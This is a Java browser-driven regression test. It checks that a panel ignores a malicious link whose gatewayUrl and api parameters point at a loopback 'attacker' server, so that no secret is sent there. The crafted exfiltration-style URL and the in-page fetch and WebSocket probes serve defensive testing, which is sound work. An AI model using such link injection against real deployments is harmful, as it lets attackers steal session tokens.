package moltbot.systemtest.owner;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import moltbot.systemtest.house.Browser;
import moltbot.systemtest.house.TestHouse;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Incident 5 of 2026: a link that made a panel send its secret to the address in the link. In a real browser, with a
/// server of the attacker's that counts who comes.
class GatewayUrlTest {
    @TempDir
    Path folder;

    @Test
    void thePanelTalksToItsOwnOriginWhateverALinkSays() throws Exception {
        AtomicInteger came = new AtomicInteger();
        try (ServerSocket attacker = new ServerSocket(0, 10, InetAddress.getLoopbackAddress());
                TestHouse house = TestHouse.up(folder.resolve("data"), Map.of());
                Browser browser = new Browser()) {
            Thread.ofVirtual().start(() -> count(attacker, came));
            browser.claim(house, "correct horse battery");
            String there = "127.0.0.1:" + attacker.getLocalPort();

            browser.page()
                    .navigate(house.url() + "/?gatewayUrl=ws://" + there + "&token=undefined&api=http://" + there);
            browser.page().locator("textarea").waitFor();
            browser.seen("Guarded");
            assertThat(came).as("connections because of a link").hasValue(0);

            Object refused = browser.page()
                    .evaluate(
                            "async at => { try { await fetch('http://' + at + '/'); return 'sent'; }"
                                    + " catch (e) { return 'refused'; } }",
                            there);
            assertThat(refused).isEqualTo("refused");
            Object closed = browser.page()
                    .evaluate(
                            "at => new Promise(done => { try { const socket = new WebSocket('ws://' + at);"
                                    + " socket.onopen = () => done('open'); socket.onerror = () => done('closed'); }"
                                    + " catch (e) { done('closed'); } })",
                            there);
            assertThat(closed).isEqualTo("closed");
            assertThat(came).as("connections that a script in the page tried").hasValue(0);
            assertThat(browser.page().url()).doesNotContain("csrf").doesNotContain("session=");
        }
    }

    private static void count(ServerSocket attacker, AtomicInteger came) {
        try {
            while (true) {
                try (Socket socket = attacker.accept()) {
                    came.incrementAndGet();
                    socket.getOutputStream()
                            .write("HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n"
                                    .getBytes(java.nio.charset.StandardCharsets.US_ASCII));
                }
            }
        } catch (IOException e) {
            System.getLogger("test").log(System.Logger.Level.DEBUG, "The attacker's server is closed.", e);
        }
    }
}
